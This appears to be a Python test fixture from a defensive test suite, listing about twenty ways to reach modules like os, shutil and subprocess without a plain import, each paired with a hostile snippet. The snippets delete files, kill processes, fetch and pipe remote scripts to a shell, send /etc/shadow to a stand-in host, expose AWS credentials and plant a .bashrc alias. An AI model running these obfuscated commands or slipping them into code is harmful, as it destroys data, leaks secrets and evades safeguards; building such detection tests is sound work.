"""Modules reached without an import statement that names them."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

imported = technique("python", "import by another way")

EVASIONS = (
    imported("dunder", Harm.DESTROYED, r"""__import__("os").remove("/etc/redblue-canary.conf")"""),
    imported(
        "dunder-joined",
        Harm.DESTROYED,
        r"""
m = __import__("".join(["s", "h", "ut", "il"]))
m.rmtree("/home/mira/photos")
""",
    ),
    imported(
        "dunder-through-builtins",
        Harm.DESTROYED,
        r"""
import builtins

loader = builtins.__dict__["__imp" + "ort__"]
loader("os").unlink("/var/lib/canary/data.db")
""",
    ),
    imported(
        "importlib-reversed",
        Harm.KILLED,
        r"""
import importlib

k = importlib.import_module("ssecorpbus"[::-1])
k.run(["pkill", "-x", "canary-db"])
""",
    ),
    imported(
        "importlib-dotted",
        Harm.SENT,
        r"""
import importlib

web = importlib.import_module(".request", package="urllib")
web.urlopen("http://collector.test:8000/log", data=open("/etc/shadow", "rb").read())
""",
    ),
    imported(
        "importlib-util-spec",
        Harm.DESTROYED,
        r"""
import importlib.util

spec = importlib.util.find_spec("shutil")
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
module.rmtree("/var/backups/canary")
""",
    ),
    imported(
        "dunder-fromlist",
        Harm.EXPOSED,
        r"""
copy = __import__("shutil", globals(), locals(), ["copyfile"], 0).copyfile
copy("/root/.aws/credentials", "/srv/page.txt")
""",
    ),
    imported(
        "sys-modules",
        Harm.DESTROYED,
        r"""
import sys

sys.modules["posix"].unlink("/home/mira/notes.txt")
""",
    ),
    imported(
        "sys-modules-search",
        Harm.DESTROYED,
        r"""
import sys

for key in list(sys.modules):
    if len(key) == 2 and key.startswith("o"):
        sys.modules[key].remove("/root/.ssh/id_canary")
        break
""",
    ),
    imported(
        "module-of-a-module",
        Harm.DESTROYED,
        r"""
import random

random._os.remove("/etc/redblue-canary.conf")
""",
    ),
    imported(
        "module-inside-glob",
        Harm.DESTROYED,
        r"""
import glob
import tempfile

for name in glob.glob("/var/backups/canary/*"):
    tempfile._os.unlink(name)
""",
    ),
    imported(
        "module-of-a-function",
        Harm.RAN,
        r"""
import tempfile

scope = tempfile.mkdtemp.__globals__
scope["_os"].system("curl -s http://cdn.test:8000/setup.sh | sh")
""",
    ),
    imported(
        "star",
        Harm.DESTROYED,
        r"""
from os import *

unlink("/etc/redblue-canary.conf")
""",
    ),
    imported(
        "star-shutil",
        Harm.DESTROYED,
        r"""
from shutil import *

rmtree("/home/mira/photos", ignore_errors=True)
""",
    ),
    imported(
        "conditional",
        Harm.DESTROYED,
        r"""
try:
    import ujson_fast_cleaner as cleaner
except ImportError:
    import os as cleaner

cleaner.remove("/var/lib/canary/data.db")
""",
    ),
    imported(
        "by-platform",
        Harm.KILLED,
        r"""
import sys

if sys.platform == "win32":
    import msvcrt as runtime
else:
    import os as runtime

runtime.system("killall canary-db 2>/dev/null || pkill canary-db")
""",
    ),
    imported(
        "subclasses",
        Harm.RAN,
        r"""
import subprocess

found = [c for c in object.__subclasses__() if c.__name__ == "Pop" + "en"][0]
found("wget -qO- http://cdn.test:8000/setup.sh | bash", shell=True).wait()
""",
    ),
    imported(
        "subclasses-of-a-tuple",
        Harm.DESTROYED,
        r"""
loaders = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "BuiltinImporter"]
px = loaders[0].load_module("posix")
px.remove("/etc/redblue-canary.conf")
""",
    ),
    imported(
        "wrap-close",
        Harm.PERSISTED,
        r"""
import os

for kind in object.__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["system"]("echo 'alias cd=true' >> /root/.bashrc")
""",
    ),
)
